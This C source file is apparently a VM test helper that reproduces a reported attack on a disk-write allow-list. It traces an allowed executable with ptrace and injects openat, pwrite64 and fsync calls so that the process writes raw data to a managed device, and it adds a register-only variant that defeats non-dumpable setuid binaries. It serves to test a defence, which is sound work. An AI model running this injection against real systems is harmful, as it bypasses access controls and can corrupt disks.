/*
 * ag-ptrace-write - borrow an allow-listed executable's identity with ptrace
 * (issue 29's attack) and write a managed disk from inside it.
 *
 *   ag-ptrace-write TARGET_EXE DEVICE OFFSET [ARG...]
 *       Forks; the child asks to be traced (PTRACE_TRACEME) and execs
 *       TARGET_EXE ARG...; at the stop after the exec (before the target's
 *       first instruction) the parent writes a `syscall` instruction over the
 *       entry point (PTRACE_POKETEXT), DEVICE's path and a 4 KiB buffer
 *       ("AGPTRACE" and 'P's) below the child's stack pointer, and runs, one
 *       single step each, openat(AT_FDCWD, DEVICE, O_WRONLY), then
 *       pwrite64(fd, buf, 4096, OFFSET) and fsync(fd) in the child. Prints
 *       "injected <call> = <result>" per call, kills the child, and exits 0
 *       only if the write returned 4096 (the attack landed), 1 otherwise,
 *       2 on a usage or tracing error (nothing was injected).
 *
 *   ag-ptrace-write --image IMAGE TARGET_EXE DEVICE OFFSET [ARG...]
 *       The same for a TARGET_EXE this user may run but not read (Oracle's
 *       bin/oracle is mode 6751): the kernel makes such a process
 *       non-dumpable, so its tracer cannot read or write its memory, but it
 *       still sets its registers. IMAGE is a readable copy of the same
 *       non-PIE build (a site's binaries are public builds): the call runs at
 *       a `syscall` instruction found in IMAGE's code, the path is a
 *       NUL-terminated word found in IMAGE's data, opened relative to a
 *       directory (inherited descriptor) in which a symlink of that name
 *       points at DEVICE, and the buffer is IMAGE's code itself.
 *
 *   ag-ptrace-write --seize PID SECONDS
 *       The `strace -p` stand-in: attaches to PID with PTRACE_SEIZE, stops it at
 *       every system call entry and exit for SECONDS, detaches; prints the number
 *       of stops. Exit 0 when it attached and detached.
 *
 * Built statically (tests/vm/initramfs.sh); x86_64 only.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <elf.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LEN 4096

static pid_t child;

static void die(const char *what)
{
	fprintf(stderr, "ag-ptrace-write: %s: %s\n", what, strerror(errno));
	if (child > 0)
		kill(child, SIGKILL);
	exit(2);
}

/* Copies len bytes (a multiple of 8) to the child's memory at addr. */
static void poke(unsigned long addr, const void *src, size_t len)
{
	for (size_t i = 0; i < len; i += 8) {
		long w;
		memcpy(&w, (const char *)src + i, 8);
		if (ptrace(PTRACE_POKEDATA, child, addr + i, w) < 0)
			die("PTRACE_POKEDATA");
	}
}

/* Runs one system call in the stopped child at `at` (a syscall instruction),
 * from the registers `base`; returns its result (rax). */
static long inject(const struct user_regs_struct *base, unsigned long at, long nr, long a1, long a2, long a3,
		   long a4)
{
	struct user_regs_struct r = *base;
	int st;
	r.rax = nr;
	r.orig_rax = -1; /* no syscall restart on the way back to user mode */
	r.rdi = a1;
	r.rsi = a2;
	r.rdx = a3;
	r.r10 = a4;
	r.rip = at;
	if (ptrace(PTRACE_SETREGS, child, 0, &r) < 0)
		die("PTRACE_SETREGS");
	if (ptrace(PTRACE_SINGLESTEP, child, 0, 0) < 0)
		die("PTRACE_SINGLESTEP");
	if (waitpid(child, &st, 0) < 0)
		die("waitpid");
	if (!WIFSTOPPED(st)) {
		fprintf(stderr, "ag-ptrace-write: the child ended during the injected call (status 0x%x)\n", st);
		exit(2);
	}
	if (ptrace(PTRACE_GETREGS, child, 0, &r) < 0)
		die("PTRACE_GETREGS");
	return (long)r.rax;
}

static void show(const char *call, long r)
{
	if (r < 0 && r > -4096)
		printf("injected %s = -1 %s (%s)\n", call, strerrorname_np(-r) ? strerrorname_np(-r) : "?",
		       strerror(-r));
	else
		printf("injected %s = %ld\n", call, r);
	fflush(stdout);
}

/* What the register-only injection needs from IMAGE (a non-PIE ELF64): the
 * address of a syscall instruction, of a NUL-terminated word usable as a file
 * name, and of a readable 4 KiB. 0 on success. */
static int image_scan(const char *image, unsigned long *sys_at, unsigned long *word_at, char *word, size_t wlen,
		      unsigned long *buf_at)
{
	struct stat sb;
	int fd = open(image, O_RDONLY);
	if (fd < 0 || fstat(fd, &sb))
		return -1;
	unsigned char *f = malloc(sb.st_size);
	if (!f || read(fd, f, sb.st_size) != sb.st_size)
		return -1;
	close(fd);
	Elf64_Ehdr *eh = (Elf64_Ehdr *)f;
	if (sb.st_size < (off_t)sizeof(*eh) || memcmp(eh->e_ident, ELFMAG, SELFMAG) || eh->e_type != ET_EXEC) {
		fprintf(stderr, "ag-ptrace-write: %s is not a non-PIE ELF executable\n", image);
		return -1;
	}
	*sys_at = *word_at = *buf_at = 0;
	for (int i = 0; i < eh->e_phnum; i++) {
		Elf64_Phdr *ph = (Elf64_Phdr *)(f + eh->e_phoff + i * eh->e_phentsize);
		if (ph->p_type != PT_LOAD || ph->p_offset + ph->p_filesz > (unsigned long)sb.st_size)
			continue;
		unsigned char *seg = f + ph->p_offset;
		for (unsigned long k = 0; ph->p_flags & PF_X && !*sys_at && k + 1 < ph->p_filesz; k++)
			if (seg[k] == 0x0f && seg[k + 1] == 0x05)
				*sys_at = ph->p_vaddr + k;
		if (ph->p_flags & PF_X && ph->p_filesz >= LEN && !*buf_at)
			*buf_at = ph->p_vaddr;
		/* a word of 4-32 letters, digits or _ between NULs */
		for (unsigned long k = 1; !*word_at && k < ph->p_filesz; k++) {
			if (seg[k - 1])
				continue;
			unsigned long e = k;
			while (e < ph->p_filesz && e - k < 33 && (seg[e] == '_' || (seg[e] >= 'a' && seg[e] <= 'z') ||
								  (seg[e] >= 'A' && seg[e] <= 'Z') ||
								  (seg[e] >= '0' && seg[e] <= '9')))
				e++;
			if (e < ph->p_filesz && !seg[e] && e - k >= 4 && e - k < 33 && e - k < wlen) {
				memcpy(word, seg + k, e - k);
				word[e - k] = 0;
				*word_at = ph->p_vaddr + k;
			}
		}
	}
	free(f);
	if (!*sys_at || !*word_at || !*buf_at) {
		fprintf(stderr, "ag-ptrace-write: %s: no syscall instruction, word or code page found\n", image);
		return -1;
	}
	return 0;
}

static int seize(pid_t pid, int seconds)
{
	long stops = 0;
	int st;
	time_t end = time(NULL) + seconds;
	child = -1;
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		die("PTRACE_SEIZE");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		die("PTRACE_INTERRUPT");
	while (time(NULL) < end) {
		if (waitpid(pid, &st, 0) < 0)
			die("waitpid");
		if (!WIFSTOPPED(st)) {
			fprintf(stderr, "ag-ptrace-write: %d ended while traced (status 0x%x)\n", pid, st);
			return 1;
		}
		int sig = WSTOPSIG(st);
		/* syscall stops and the group-stop of PTRACE_INTERRUPT pass no signal on */
		if (sig == (SIGTRAP | 0x80) || (st >> 16) == PTRACE_EVENT_STOP)
			sig = 0;
		stops++;
		if (ptrace(PTRACE_SYSCALL, pid, 0, sig) < 0)
			die("PTRACE_SYSCALL");
	}
	/* stop it once more to detach from a known state */
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		die("PTRACE_INTERRUPT");
	for (;;) {
		if (waitpid(pid, &st, 0) < 0)
			die("waitpid");
		if (!WIFSTOPPED(st))
			return 1;
		if ((st >> 16) == PTRACE_EVENT_STOP || WSTOPSIG(st) == (SIGTRAP | 0x80))
			break;
		ptrace(PTRACE_SYSCALL, pid, 0, WSTOPSIG(st));
	}
	if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
		die("PTRACE_DETACH");
	printf("seized %d for %d s: %ld stops, detached\n", pid, seconds, stops);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "--seize"))
		return seize(atoi(argv[2]), atoi(argv[3]));
	const char *image = NULL;
	if (argc > 2 && !strcmp(argv[1], "--image")) {
		image = argv[2];
		argv += 2;
		argc -= 2;
	}
	if (argc < 4) {
		fprintf(stderr, "usage: ag-ptrace-write [--image IMAGE] TARGET_EXE DEVICE OFFSET [ARG...]\n"
				"       ag-ptrace-write --seize PID SECONDS\n");
		return 2;
	}
	const char *target = argv[1], *dev = argv[2];
	char *endp;
	long long off = strtoll(argv[3], &endp, 0);
	if (*endp || off < 0) {
		fprintf(stderr, "ag-ptrace-write: OFFSET '%s' is not a byte offset: give a number\n", argv[3]);
		return 2;
	}
	if (strlen(dev) >= LEN - 8) {
		fprintf(stderr, "ag-ptrace-write: DEVICE path too long\n");
		return 2;
	}
	/* the child's argv: TARGET_EXE ARG... */
	char **cargv = calloc(argc - 2, sizeof(char *));
	cargv[0] = (char *)target;
	for (int i = 4; i < argc; i++)
		cargv[i - 3] = argv[i];

	/* register-only: a directory with a symlink named like IMAGE's word */
	unsigned long sys_at = 0, word_at = 0, buf_at = 0;
	char word[40], dir[] = "/tmp/ag-ptrace-write.XXXXXX", lnk[128];
	int dirfd = -1;
	if (image) {
		if (image_scan(image, &sys_at, &word_at, word, sizeof(word), &buf_at))
			return 2;
		if (!mkdtemp(dir))
			die("mkdtemp");
		snprintf(lnk, sizeof(lnk), "%s/%s", dir, word);
		if (symlink(dev, lnk))
			die("symlink");
		dirfd = open(dir, O_RDONLY | O_DIRECTORY); /* inherited by the target */
		if (dirfd < 0)
			die("open the directory");
	}

	child = fork();
	if (child < 0)
		die("fork");
	if (child == 0) {
		if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) {
			perror("PTRACE_TRACEME");
			_exit(127);
		}
		execv(target, cargv);
		fprintf(stderr, "ag-ptrace-write: exec %s: %s\n", target, strerror(errno));
		_exit(127);
	}
	int st;
	if (waitpid(child, &st, 0) < 0)
		die("waitpid");
	if (!WIFSTOPPED(st) || WSTOPSIG(st) != SIGTRAP) {
		fprintf(stderr, "ag-ptrace-write: no stop after exec of %s (status 0x%x)\n", target, st);
		return 2;
	}
	struct user_regs_struct regs;
	if (ptrace(PTRACE_GETREGS, child, 0, &regs) < 0)
		die("PTRACE_GETREGS");
	char exe[512] = "?", link[64];
	snprintf(link, sizeof(link), "/proc/%d/exe", child);
	ssize_t n = readlink(link, exe, sizeof(exe) - 1);
	if (n > 0)
		exe[n] = 0;
	printf("traced %d stopped after exec: exe=%s rip=0x%llx\n", child, exe, (unsigned long long)regs.rip);

	unsigned long at, path_at, data_at;
	errno = 0;
	long word0 = ptrace(PTRACE_PEEKTEXT, child, regs.rip, 0);
	if (errno && image) {
		printf("the target's memory is closed to its tracer (%s): registers only, from %s: syscall at 0x%lx, "
		       "path %s/%s at 0x%lx\n",
		       strerror(errno), image, sys_at, dir, word, word_at);
		at = sys_at;
		path_at = word_at;
		data_at = buf_at;
	} else {
		if (errno)
			die("PTRACE_PEEKTEXT (the target is not readable by this user: give --image)");
		/* a syscall instruction over the entry point */
		at = regs.rip;
		word0 = (word0 & ~0xffffL) | 0x050f; /* 0f 05: syscall */
		if (ptrace(PTRACE_POKETEXT, child, at, word0) < 0)
			die("PTRACE_POKETEXT");
		/* the path and the buffer below the stack pointer (inside the stack's
		 * mapping, which the kernel makes 128 KiB deeper than the arguments) */
		unsigned long scratch = ((regs.rsp - 3 * LEN) & ~(unsigned long)(LEN - 1));
		char path[LEN], buf[LEN];
		memset(path, 0, sizeof(path));
		strcpy(path, dev);
		memset(buf, 'P', sizeof(buf));
		memcpy(buf, "AGPTRACE", 8);
		poke(scratch, path, (strlen(dev) + 8) & ~7UL);
		poke(scratch + LEN, buf, LEN);
		path_at = scratch;
		data_at = scratch + LEN;
		dirfd = AT_FDCWD;
	}

	char call[LEN + 64];
	long fd = inject(&regs, at, SYS_openat, dirfd, path_at, O_WRONLY, 0);
	snprintf(call, sizeof(call), "openat(%s, O_WRONLY)", dev);
	show(call, fd);
	long w = -EBADF;
	if (fd >= 0) {
		w = inject(&regs, at, SYS_pwrite64, fd, data_at, LEN, off);
		snprintf(call, sizeof(call), "pwrite64(%ld, 4096, %lld)", fd, off);
		show(call, w);
		snprintf(call, sizeof(call), "fsync(%ld)", fd);
		show(call, inject(&regs, at, SYS_fsync, fd, 0, 0, 0));
	}
	if (image) {
		unlink(lnk);
		rmdir(dir);
	}
	/* a moment alive: denial events resolve /proc/PID/exe when read */
	usleep(500000);
	kill(child, SIGKILL);
	waitpid(child, &st, 0);
	printf("write %s\n", w == LEN ? "LANDED" : "refused");
	return w == LEN ? 0 : 1;
}
